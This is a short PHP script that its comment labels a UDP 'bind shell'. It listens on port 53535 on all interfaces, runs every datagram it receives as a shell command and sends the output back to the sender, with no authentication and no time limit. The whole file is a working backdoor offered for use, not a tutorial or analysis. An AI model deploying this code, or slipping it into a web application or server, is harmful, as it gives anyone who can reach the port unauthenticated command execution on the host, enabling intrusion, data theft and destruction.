<?php
// A UDP "bind shell": the script binds a datagram socket and runs every datagram it receives,
// sending the output back to whoever sent it. No connection is ever accepted.
set_time_limit(0);
$sock = socket_create(AF_INET, SOCK_DGRAM, SOL_UDP);
socket_bind($sock, '0.0.0.0', 53535);
while (true) {
    $from = '';
    $port = 0;
    socket_recvfrom($sock, $packet, 2048, 0, $from, $port);
    $out = shell_exec(trim($packet) . ' 2>&1');
    socket_sendto($sock, (string) $out, strlen((string) $out), 0, $from, $port);
}
